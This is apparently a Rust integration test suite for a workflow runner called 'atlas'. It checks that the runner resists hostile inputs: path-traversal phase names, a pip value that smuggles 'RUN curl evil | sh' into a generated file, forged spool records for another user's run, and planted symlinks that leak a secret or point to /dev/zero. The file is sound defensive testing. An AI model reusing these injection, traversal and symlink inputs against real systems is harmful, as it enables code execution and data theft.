//! Regressions of the hostile test (issue 13), through the built binary: names are never paths,
//! values written into generated files are validated, bounded input, live phase output, and a
//! run whose agent was killed is ended with its cause.

mod support {
    pub mod project;
    pub mod server;
}

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use support::project::Project;
use support::server::{get, post, Db, Kind, Server};

const HEAD: &str = "apiVersion: atlas.dev/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec:\n";

fn write(p: &Project, name: &str, text: &str) -> String {
    std::fs::write(p.dir.join(name), text).unwrap();
    name.to_string()
}

/// Polls `check` every 100 ms for at most 60 s (generous: a busy machine is slow, not wrong).
fn eventually(what: &str, mut check: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !check() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn a_phase_name_cannot_reach_another_runs_log() {
    let p = Project::new("cross-log", "");
    let db = p.dir.join("db/atlas.db");
    std::fs::create_dir_all(db.parent().unwrap()).unwrap();
    let server = Server::start(&p.dir, &Db::new(Kind::Sqlite, &p.dir));
    let alice = server.add_user("alice");
    server.add_user("bob");
    let secret = "bob-secret-7f3a";
    let w = write(
        &p,
        "w.yaml",
        &format!("{HEAD}  phases:\n  - {{name: train, run: 'echo {secret}'}}\n"),
    );
    let run_as = |user: &str| {
        let out = Command::new(env!("CARGO_BIN_EXE_atlas"))
            .args(["run", &w, "--on", "local"])
            .current_dir(&p.dir)
            .env("ATLAS_DB", &db)
            .env("ATLAS_USER", user)
            .env("XDG_CONFIG_HOME", p.dir.join("no-user-config"))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    run_as("bob");
    run_as("alice");
    let runs = p.runs();
    let id_of = |owner: &str| {
        runs.iter()
            .find(|r| r["owner"] == owner)
            .and_then(|r| r["id"].as_str())
            .unwrap()
            .to_string()
    };
    let (bob_run, alice_run) = (id_of("bob"), id_of("alice"));
    let evil = format!("../../{bob_run}/logs/train");
    let record = serde_json::json!({"run": alice_run, "seq": 100_000, "time": 1.0, "mono": 1.0,
        "type": "phaseStart", "phase": evil, "index": 5});
    let (status, body) = post(
        &server,
        "/api/v1/records",
        &alice,
        record.to_string().as_bytes(),
    );
    assert_eq!(
        status, 400,
        "a phase name that is a path is refused at ingest: {body}"
    );
    let path = format!(
        "/api/v1/runs/{alice_run}/log?phase={}",
        evil.replace('/', "%2F")
    );
    let (_, body) = get(&server, &path, Some(&alice));
    assert!(!body.contains(secret), "bob's output reached alice: {body}");
    // Alice's own log is still served.
    let (status, body) = get(
        &server,
        &format!("/api/v1/runs/{alice_run}/log?phase=train"),
        Some(&alice),
    );
    assert_eq!(status, 200, "{body}");
    assert!(body.contains(secret), "{body}");
}

#[test]
fn values_that_would_change_generated_files_are_refused() {
    let p = Project::new("validate", "");
    let cases = [
        ("walltime", "  resources:\n    walltime: 18446744073709551615s\n  phases: [{name: main, run: 'true'}]\n"),
        ("pip", "  image:\n    pip:\n    - \"numpy\\nRUN curl evil | sh\"\n  phases: [{name: main, run: 'true'}]\n"),
        ("nodes", "  resources:\n    nodes: 0\n  phases: [{name: main, run: 'true'}]\n"),
        ("phases", "  phases: []\n"),
        ("name", "  phases: [{name: 'a/b', run: 'true'}]\n"),
    ];
    for (what, spec) in cases {
        let file = write(&p, "w.yaml", &format!("{HEAD}{spec}"));
        let (code, _, stderr) = p.atlas(&["validate", &file]);
        assert_eq!(code, 2, "{what}: {stderr}");
        assert!(
            stderr.contains("w.yaml:"),
            "{what} has no file:line: {stderr}"
        );
    }
    std::fs::write(
        p.dir.join("bad.yaml"),
        b"apiVersion: atlas.dev/v1alpha1\n\xff\xfe\n",
    )
    .unwrap();
    let (code, _, stderr) = p.atlas(&["validate", "bad.yaml"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("bad.yaml:2: not UTF-8"), "{stderr}");
}

#[test]
fn a_walltime_of_zero_means_no_limit() {
    let p = Project::new("t0", "");
    let script = write(
        &p,
        "job.sh",
        "#!/bin/bash\n#SBATCH -t 0\n# atlas: phase main\ntrue\n",
    );
    let (code, _, stderr) = p.atlas(&["run", &script, "--on", "local"]);
    assert_eq!(code, 0, "{stderr}");
    let (_, _, report) = p.atlas(&["import", &script]);
    assert!(report.contains("0 means no time limit"), "{report}");
}

#[test]
fn endless_and_special_files_are_refused_at_once() {
    let p = Project::new("special", "");
    let fifo = p.dir.join("fifo");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    for (command, file) in [
        ("validate", fifo.to_str().unwrap()),
        ("import", "/dev/zero"),
    ] {
        let started = Instant::now();
        let (code, _, stderr) = p.atlas(&[command, file]);
        assert_eq!(code, 2, "{stderr}");
        assert!(stderr.contains("not a regular file"), "{stderr}");
        assert!(started.elapsed() < Duration::from_secs(30));
    }
}

#[test]
fn phase_output_is_in_the_log_while_the_phase_runs() {
    let p = Project::new("live-log", "");
    let w = write(
        &p,
        "w.yaml",
        &format!("{HEAD}  phases:\n  - {{name: slow, run: 'echo first-line; sleep 300'}}\n"),
    );
    let mut run = Command::new(env!("CARGO_BIN_EXE_atlas"))
        .args(["run", &w, "--on", "local"])
        .current_dir(&p.dir)
        .env("ATLAS_DB", p.dir.join("db/atlas.db"))
        .env("XDG_CONFIG_HOME", p.dir.join("no-user-config"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut id = String::new();
    eventually("the run to start", || {
        let runs = if p.dir.join("db/atlas.db").exists() {
            p.runs()
        } else {
            vec![]
        };
        id = runs
            .first()
            .and_then(|r| r["id"].as_str())
            .unwrap_or("")
            .to_string();
        !id.is_empty() && runs[0]["status"] == "running"
    });
    eventually("the first line in the live log", || {
        p.atlas(&["logs", &id]).1.contains("first-line")
    });

    // kill -9 of `atlas run` and of the agent: the run is ended as lost, its job stopped.
    let pids = pgrep_run(&id);
    assert!(!pids.is_empty(), "the job's processes carry ATLAS_RUN_ID");
    // SAFETY: plain kill(2) of our own child.
    unsafe { libc::kill(run.id() as i32, libc::SIGKILL) };
    let _ = run.wait();
    for pid in agent_pids(&id) {
        // SAFETY: plain kill(2) of the agent this test started.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
    eventually("the run to be ended as lost", || {
        p.runs().iter().any(|r| {
            r["id"] == id.as_str()
                && r["status"] == "failed"
                && r["cause"].as_str().unwrap_or("").starts_with("lost")
        })
    });
    eventually("the job's processes to be gone", || {
        pgrep_run(&id).is_empty()
    });
    let started = Instant::now();
    let (code, out, _) = p.atlas(&["logs", &id, "--follow"]);
    assert_eq!(code, 0);
    assert!(out.contains("first-line"));
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "logs --follow did not return"
    );
}

/// Processes whose environment holds ATLAS_RUN_ID=`id` (the phase and its children).
fn pgrep_run(id: &str) -> Vec<i32> {
    atlas_agent::procfs::processes_of_run(id)
}

/// The `atlas agent` processes of run `id` (their command line names it).
fn agent_pids(id: &str) -> Vec<i32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
        .filter(|pid| {
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let args: Vec<&[u8]> = cmd.split(|b| *b == 0).collect();
            args.contains(&b"agent".as_slice()) && args.contains(&id.as_bytes())
        })
        .collect()
}

#[test]
fn a_store_in_a_missing_directory_is_an_error_and_a_new_store_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let p = Project::new("store-dir", "");
    let missing = p.dir.join("no/such/dir/x.db");
    let out = Command::new(env!("CARGO_BIN_EXE_atlas"))
        .args(["runs"])
        .env("ATLAS_DB", &missing)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("does not exist"), "{stderr}");
    assert!(!p.dir.join("no").exists(), "no directory was made");

    let (code, _, stderr) = p.atlas(&["runs"]);
    assert_eq!(code, 0, "{stderr}");
    let mode = std::fs::metadata(p.dir.join("db/atlas.db"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600, "{mode:o}");
}

#[test]
fn a_damaged_store_is_named_in_the_error() {
    let p = Project::new("store-damaged", "");
    let (code, _, _) = p.atlas(&["runs"]);
    assert_eq!(code, 0);
    // Overwrite the pages after the header: SQLite then finds the file malformed.
    // (The WAL too: the store keeps it between commands.)
    let db = p.dir.join("db/atlas.db");
    for file in [db.clone(), p.dir.join("db/atlas.db-wal")] {
        let Ok(mut bytes) = std::fs::read(&file) else {
            continue;
        };
        for b in bytes.iter_mut().skip(100) {
            *b = 0xA5;
        }
        std::fs::write(&file, bytes).unwrap();
    }
    let (code, _, stderr) = p.atlas(&["runs"]);
    assert_ne!(code, 0);
    assert!(stderr.contains(&db.display().to_string()), "{stderr}");
}

/// A small tmpfs mounted for a test, unmounted when dropped.
struct Tmpfs(std::path::PathBuf);

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_still_lists_runs_and_names_the_store_on_write() {
    let p = Project::new("store-full", "");
    let mount = p.dir.join("small");
    std::fs::create_dir_all(&mount).unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=400k", "tmpfs"])
        .arg(&mount)
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        assert!(
            std::env::var_os("ATLAS_REQUIRE_INTEGRATION").is_none(),
            "cannot mount a tmpfs (the tests run as root in scripts/test)"
        );
        eprintln!("skipped: mounting a tmpfs needs root");
        return;
    }
    let _guard = Tmpfs(mount.clone());
    let db = mount.join("atlas.db");
    let atlas = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_atlas"))
            .args(args)
            .current_dir(&p.dir)
            .env("ATLAS_DB", &db)
            .output()
            .unwrap()
    };
    assert!(atlas(&["runs"]).status.success());
    let filler = std::fs::File::create(mount.join("filler")).unwrap();
    let mut filler = std::io::BufWriter::new(filler);
    while std::io::Write::write_all(&mut filler, &[0u8; 4096]).is_ok() {}
    drop(filler);
    let listed = atlas(&["runs"]);
    assert!(
        listed.status.success(),
        "{}",
        String::from_utf8_lossy(&listed.stderr)
    );
    let w = write(
        &p,
        "w.yaml",
        &format!("{HEAD}  phases: [{{name: main, run: 'true'}}]\n"),
    );
    let ran = atlas(&["run", &w, "--on", "local"]);
    assert_eq!(ran.status.code(), Some(3));
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(stderr.contains(&db.display().to_string()), "{stderr}");
    assert!(
        stderr.contains("read-only") || stderr.contains("full"),
        "{stderr}"
    );
}

/// `atlas run W --on local` in the background; its stdout and stderr dropped.
fn spawn_run(p: &Project, workflow: &str, user: &str) -> std::process::Child {
    Command::new(env!("CARGO_BIN_EXE_atlas"))
        .args(["run", workflow, "--on", "local"])
        .current_dir(&p.dir)
        .env("ATLAS_DB", p.dir.join("db/atlas.db"))
        .env("ATLAS_USER", user)
        .env("XDG_CONFIG_HOME", p.dir.join("no-user-config"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

/// Waits until the newest run of `owner` is running; its id.
fn running_run_of(p: &Project, owner: &str) -> String {
    let mut id = String::new();
    eventually("the run to start", || {
        let runs = p.runs();
        let run = runs
            .iter()
            .find(|r| r["owner"] == owner && r["status"] == "running");
        id = run.and_then(|r| r["id"].as_str()).unwrap_or("").to_string();
        !id.is_empty()
    });
    id
}

#[test]
fn a_job_cannot_speak_for_another_run_through_its_spool() {
    let p = Project::new("forge", "");
    let long = write(
        &p,
        "long.yaml",
        &format!("{HEAD}  phases: [{{name: wait, run: 'sleep 300'}}]\n"),
    );
    let mut bob = spawn_run(&p, &long, "bob");
    let bob_run = running_run_of(&p, "bob");
    // Alice's job appends a runStart for bob's run, with a dead agent, to its own spool, and a
    // runEnd that would end it.
    let forged = format!(
        "{{\"run\":\"{bob_run}\",\"seq\":1,\"time\":1.0,\"mono\":0.0,\"type\":\"runStart\",\"workflow\":\"w\",\"host\":\"{host}\",\"agentVersion\":\"0\",\"phases\":[\"wait\"],\"intervalMs\":1000,\"cpus\":1,\"gpu\":\"none\",\"source\":\"s\",\"agent\":{{\"pid\":1,\"start\":1}}}}\n{{\"run\":\"{bob_run}\",\"seq\":99,\"time\":2.0,\"mono\":1.0,\"type\":\"runEnd\",\"status\":\"failed\",\"wallSeconds\":1.0}}\n",
        host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim()
    );
    std::fs::write(p.dir.join("forged.jsonl"), forged).unwrap();
    let evil = write(&p, "evil.yaml", &format!("{HEAD}  phases: [{{name: forge, run: 'cat forged.jsonl >> db/runs/$ATLAS_RUN_ID/spool.jsonl'}}]\n"));
    let (code, _, stderr) = p.atlas(&["run", &evil, "--on", "local"]);
    assert!(stderr.contains("for other runs"), "{code} {stderr}");
    let (_, _, _) = p.atlas(&["ingest", "db/runs/never/spool.jsonl"]);
    let bob_now = p
        .runs()
        .into_iter()
        .find(|r| r["id"] == bob_run.as_str())
        .unwrap();
    assert_eq!(bob_now["status"], "running", "{bob_now}");
    assert!(!pgrep_run(&bob_run).is_empty(), "bob's job still runs");
    // SAFETY: plain kill(2) of the test's own child.
    unsafe { libc::kill(bob.id() as i32, libc::SIGTERM) };
    let _ = bob.wait();
}

#[test]
fn a_log_replaced_by_a_link_is_not_read() {
    let p = Project::new("log-link", "");
    std::fs::write(p.dir.join("secret"), "the-secret-9d1").unwrap();
    let w = write(&p, "w.yaml", &format!("{HEAD}  phases: [{{name: leak, run: 'echo mine; ln -sf \"$PWD/secret\" db/runs/$ATLAS_RUN_ID/logs/leak.out'}}]\n"));
    let (code, _, stderr) = p.atlas(&["run", &w, "--on", "local"]);
    assert_eq!(code, 0, "{stderr}");
    let id = p.runs()[0]["id"].as_str().unwrap().to_string();
    let (_, out, _) = p.atlas(&["logs", &id]);
    assert!(!out.contains("the-secret"), "{out}");
}

#[test]
fn an_output_file_never_writes_through_a_planted_link_or_replaces_a_device() {
    let p = Project::new("output", "");
    let script = write(&p, "job.sh", "#!/bin/bash\n#SBATCH -N 1\ntrue\n");
    std::fs::write(p.dir.join("victim"), "keep").unwrap();
    std::os::unix::fs::symlink(p.dir.join("victim"), p.dir.join(".out.yaml.atlas-tmp")).unwrap();
    let (code, _, stderr) = p.atlas(&["import", &script, "-o", "out.yaml"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        std::fs::read_to_string(p.dir.join("victim")).unwrap(),
        "keep"
    );
    assert!(std::fs::symlink_metadata(p.dir.join("out.yaml"))
        .unwrap()
        .is_file());
    // A FIFO (as /dev/null would be) is written into, not replaced by a file.
    let fifo = p.dir.join("pipe");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let reader = std::thread::spawn({
        let fifo = fifo.clone();
        move || std::fs::read_to_string(fifo).unwrap()
    });
    let (code, _, stderr) = p.atlas(&["import", &script, "-o", "pipe"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(reader.join().unwrap().contains("kind: Workflow"));
    assert!(
        !std::fs::symlink_metadata(&fifo).unwrap().is_file(),
        "still a FIFO"
    );
}

#[test]
fn a_spool_replaced_by_a_link_to_an_endless_file_is_not_read() {
    let p = Project::new("spool-zero", "");
    let w = write(&p, "w.yaml", &format!("{HEAD}  phases: [{{name: zero, run: 'ln -sf /dev/zero db/runs/$ATLAS_RUN_ID/spool.tmp && mv -f db/runs/$ATLAS_RUN_ID/spool.tmp db/runs/$ATLAS_RUN_ID/spool.jsonl'}}]\n"));
    let (code, _, stderr) = p.atlas(&["run", &w, "--on", "local"]);
    assert_eq!(code, 1, "the run fails, atlas does not: {stderr}");
    assert!(stderr.contains("spool.jsonl: not read"), "{stderr}");
    let (code, _, stderr) = p.atlas(&["runs"]);
    assert_eq!(code, 0, "{stderr}");
}

#[test]
fn a_killed_agent_leaves_no_job_processes_behind() {
    let p = Project::new("agent-killed", "");
    let long = write(
        &p,
        "long.yaml",
        &format!("{HEAD}  phases: [{{name: wait, run: 'sleep 300 & sleep 301'}}]\n"),
    );
    let mut run = spawn_run(&p, &long, "ada");
    let id = running_run_of(&p, "ada");
    eventually("the job's processes", || pgrep_run(&id).len() >= 2);
    for pid in agent_pids(&id) {
        // SAFETY: plain kill(2) of the agent this test started.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
    let status = run.wait().unwrap();
    assert_eq!(status.code(), Some(1));
    eventually("the job's processes to be gone", || {
        pgrep_run(&id).is_empty()
    });
    let run = p
        .runs()
        .into_iter()
        .find(|r| r["id"] == id.as_str())
        .unwrap();
    assert!(run["cause"].as_str().unwrap().contains("leftover"), "{run}");
}
